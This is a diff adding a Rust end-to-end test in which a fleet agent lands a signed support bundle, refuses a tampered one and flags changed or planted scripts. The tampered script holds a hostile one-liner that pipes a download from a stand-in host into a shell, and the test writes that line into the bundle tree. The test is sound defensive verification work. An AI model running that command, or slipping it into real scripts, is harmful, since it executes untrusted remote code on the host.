@@ -26,6 +26,29 @@ use fixture::{
     agent_build, forged, hostile_offer, publish, release, Supervised, A, B, C, D, TRIAL_LONG,
 };
 
+/// What the plane keeps of the node's facts.
+async fn facts_of(plane: &Plane, node: i64) -> Value {
+    let (status, view) = plane
+        .api(&plane.reader, "GET", &format!("/api/v1/nodes/{node}"), None)
+        .await;
+    assert_eq!(status, 200, "{view}");
+    view["facts"].clone()
+}
+
+/// Waits until the node's facts satisfy `check`.
+async fn facts_until(
+    plane: &Plane,
+    node: i64,
+    what: &str,
+    check: impl Fn(&Value) -> bool,
+) -> Value {
+    capstan_e2e::wait_for(what, Duration::from_secs(90), || async {
+        let facts = facts_of(plane, node).await;
+        check(&facts).then_some(facts)
+    })
+    .await
+}
+
 /// What the plane shows of the node: `(agent_version, update_state, update_offered,
 /// update_reason)`.
 async fn update_of(plane: &Plane, node: i64) -> (String, String, String, String) {
@@ -296,4 +319,156 @@ async fn ag_30_the_start_guard_puts_the_bak_back_for_a_binary_on_trial_that_cann
         C
     );
     assert!(!dir.path().join("capstan-agent.pending").exists());
+}
+
+const REPORT: &[u8] = b"#!/bin/sh\nuname -a\n";
+const RANGES: &[u8] = b"192.0.2.0/24\n";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn ag_32_ag_39_ac_49_a_siteless_node_lands_its_signed_bundle_refuses_a_tampered_one_and_names_changed_files(
+) {
+    use capstan_signing::{
+        manifest::{write_archive, FileManifest, MANIFEST_FILE, SIGNATURE_FILE},
+        release::{Artifact, SupportBundle},
+    };
+    let build = agent_build(A);
+    let plane = Plane::start().await;
+    let mut node = Supervised::paired_siteless(&plane, &build, "bundle-node").await;
+
+    // Published with `capstan release sign --support-bundle-dir`: A's own version, so only the
+    // bundle is new to the node.
+    let bundle_dir = node.dir().join("bundle-src");
+    std::fs::create_dir_all(bundle_dir.join("bin")).unwrap();
+    std::fs::create_dir_all(bundle_dir.join("conf")).unwrap();
+    std::fs::write(bundle_dir.join("bin/host_report.sh"), REPORT).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(
+        bundle_dir.join("bin/host_report.sh"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    std::fs::write(bundle_dir.join("conf/ranges.txt"), RANGES).unwrap();
+    let release_dir = node.dir().join("release-a");
+    fixture::cli_publish_with(&plane, &build, A, 1, &release_dir, Some(&bundle_dir)).await;
+
+    // AG-32: fetched, checked and landed; AG-39: the node looked and every file matches.
+    facts_until(
+        &plane,
+        node.id,
+        "the bundle to land and the tree to be trusted",
+        |facts| {
+            facts["bundle_state"] == "current"
+                && facts["script_trust"] == "trusted"
+                && facts["script_trust_files"] == serde_json::json!([])
+        },
+    )
+    .await;
+    let tree = node.bundle_tree();
+    assert_eq!(
+        std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
+        REPORT
+    );
+    let mode = std::fs::metadata(tree.join("bin/host_report.sh"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o7777, 0o755);
+    assert!(tree.join(MANIFEST_FILE).is_file() && tree.join(SIGNATURE_FILE).is_file());
+
+    // A bundle signed by the release key whose archive holds a script other than the one its
+    // manifest lists, served by a hostile plane: refused, the file named, the tree untouched.
+    let key = fixture::release_key();
+    let manifest = FileManifest::describe([
+        ("bin/host_report.sh", 0o755, REPORT),
+        ("conf/ranges.txt", 0o644, RANGES),
+    ])
+    .unwrap();
+    let manifest_bytes = manifest.to_bytes();
+    let signature = manifest.sign(&key);
+    let evil: &[u8] = b"#!/bin/sh\ncurl evil.example | sh\n";
+    let archive = write_archive([
+        ("bin/host_report.sh", 0o755, evil),
+        ("conf/ranges.txt", 0o644, RANGES),
+        (MANIFEST_FILE, 0o644, &manifest_bytes[..]),
+        (SIGNATURE_FILE, 0o644, &signature[..]),
+    ]);
+    let binary = std::fs::read(&build).unwrap();
+    let mut binaries = std::collections::BTreeMap::new();
+    binaries.insert(
+        "linux-amd64".to_string(),
+        Artifact::describe("capstan-agent-a", &binary, &key),
+    );
+    let document = capstan_signing::release::Release {
+        version: A.to_string(),
+        sequence: 2,
+        expires_at: 4_102_444_800,
+        binaries,
+        support_bundle: Some(SupportBundle {
+            archive: Artifact::describe("support_bundle-a.tar", &archive, &key),
+            manifest,
+        }),
+        next_key: None,
+    }
+    .sign(&key)
+    .unwrap();
+    fixture::hostile_bundle_offer(&plane, &document, &binary, &archive).await;
+    let facts = facts_until(
+        &plane,
+        node.id,
+        "the tampered bundle to be refused",
+        |facts| facts["bundle_state"] == "verify_failed",
+    )
+    .await;
+    let reason = facts["bundle_reason"].as_str().unwrap();
+    assert!(
+        reason.starts_with("untrusted file") && reason.contains("bin/host_report.sh (modified)"),
+        "{reason}"
+    );
+    assert_eq!(
+        std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
+        REPORT
+    );
+    assert_eq!(facts["script_trust"], "trusted", "{facts}");
+
+    // AG-39, AC-49: a script changed and one planted in the landed tree are named on the
+    // claim, and plane:unmanageable opens listing them.
+    std::fs::write(tree.join("bin/host_report.sh"), evil).unwrap();
+    std::fs::write(tree.join("bin/planted.sh"), evil).unwrap();
+    facts_until(&plane, node.id, "the changed files to be named", |facts| {
+        facts["script_trust"] == "untrusted_file"
+            && facts["script_trust_files"]
+                == serde_json::json!(["bin/host_report.sh", "bin/planted.sh"])
+    })
+    .await;
+    let incident = wait_incident(
+        &plane,
+        node.id,
+        "plane:unmanageable",
+        "plane:unmanageable to open",
+        |incident| incident["status"] == "open",
+    )
+    .await;
+    assert_eq!(incident["severity"], "critical", "{incident}");
+    assert_eq!(
+        incident["title"], "The node cannot verify its own scripts",
+        "{incident}"
+    );
+    let detail = incident["detail"].as_str().unwrap();
+    assert!(
+        detail.contains("bin/host_report.sh") && detail.contains("bin/planted.sh"),
+        "{incident}"
+    );
+
+    // Put back, the node says it looked and all match, and the incident clears.
+    std::fs::write(tree.join("bin/host_report.sh"), REPORT).unwrap();
+    std::fs::remove_file(tree.join("bin/planted.sh")).unwrap();
+    wait_incident(
+        &plane,
+        node.id,
+        "plane:unmanageable",
+        "plane:unmanageable to clear once the files are back",
+        |shown| shown["id"] == incident["id"] && shown["status"] == "closed",
+    )
+    .await;
+    node.stop().await;
 }
